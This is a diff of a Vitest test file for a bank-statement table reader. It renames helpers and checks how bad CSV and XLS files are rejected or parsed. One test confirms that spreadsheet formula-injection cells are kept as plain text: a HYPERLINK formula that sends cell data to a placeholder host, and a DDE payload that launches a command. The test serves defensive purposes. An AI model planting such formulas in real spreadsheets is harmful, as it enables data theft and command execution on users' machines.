@@ -2,7 +2,7 @@
 import { beforeEach, describe, expect, test } from 'vitest'
 import { readTable } from '../../../main/worker/table/read-table.ts'
 import { minorToDecimal, sumMinor } from '../../../shared/value/money.ts'
-import { answered, asAnswered } from '../../support/as-answered.ts'
+import { answerOfRefusal, asAnswer } from '../../support/file/parser-answers.ts'
 import { readShared, readSharedJson, skipWithoutSharedData } from '../../support/shared-data.ts'
 
 interface Note {
@@ -19,17 +19,17 @@ describe('bad tables', () => {
 
   test.each(Object.entries(files).filter(([name]) => /^(csv|xls)/.test(name)))('%s', async (name, note) => {
     const file = await readTable(readShared('data', 'bad', name))
-    const wanted = note.want.split('|')
+    const expected = note.want.split('|')
     if (!file.ok) {
-      expect([...wanted, ...(wanted.includes('error') ? ['415', '422'] : [])]).toContain(
-        String(answered(file.error).status),
+      expect([...expected, ...(expected.includes('error') ? ['415', '422'] : [])]).toContain(
+        String(answerOfRefusal(file.error).status),
       )
-      expect(answered(file.error).message).toMatch(/^[A-Z].{15,}\.$/)
+      expect(answerOfRefusal(file.error).message).toMatch(/^[A-Z].{15,}\.$/)
       return
     }
     const rows = file.value.statements.flatMap((statement) => statement.rows)
     const shown = rows.map((row) => minorToDecimal(row.amount, row.currency))
-    expect(wanted).toContain(`ok:${rows.length}`)
+    expect(expected).toContain(`ok:${rows.length}`)
     if (note.sum !== undefined) expect(minorToDecimal(sumMinor(rows.map((row) => row.amount)), 'CHF')).toBe(note.sum)
     if (note.values !== undefined) expect(shown).toEqual(note.values)
     if (note.dates !== undefined) expect(rows.map((row) => row.booking_date)).toEqual(note.dates)
@@ -37,7 +37,7 @@ describe('bad tables', () => {
 
   test('cells that a spreadsheet would run are kept word for word', async () => {
     const file = await readTable(readShared('data', 'bad', 'csv_formula_injection.csv'))
-    if (!file.ok) throw new Error(answered(file.error).message)
+    if (!file.ok) throw new Error(answerOfRefusal(file.error).message)
     expect(file.value.statements[0]?.rows.map((row) => row.text)).toEqual([
       '=HYPERLINK("http://x.invalid?"&A1,"Klick")',
       "+cmd|' /C calc'!A0",
@@ -60,6 +60,6 @@ describe('bad tables', () => {
     ['xls_encrypted_like.xlsx', 'the workbook is protected by a password'],
   ])('%s says what is wrong', async (name, sentence) => {
     const file = await readTable(readShared('data', 'bad', name))
-    expect(asAnswered(file)).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
+    expect(asAnswer(file)).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
   })
 })
